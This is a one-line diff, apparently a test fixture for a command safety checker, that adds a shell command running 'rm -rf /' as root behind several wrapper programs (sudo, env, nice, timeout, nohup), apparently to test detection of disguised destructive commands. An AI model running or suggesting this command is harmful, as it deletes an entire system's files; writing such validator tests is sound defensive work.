@@ -1,0 +1,1 @@
+sudo -u root env A=1 nice -n 5 timeout 10 nohup rm -rf /
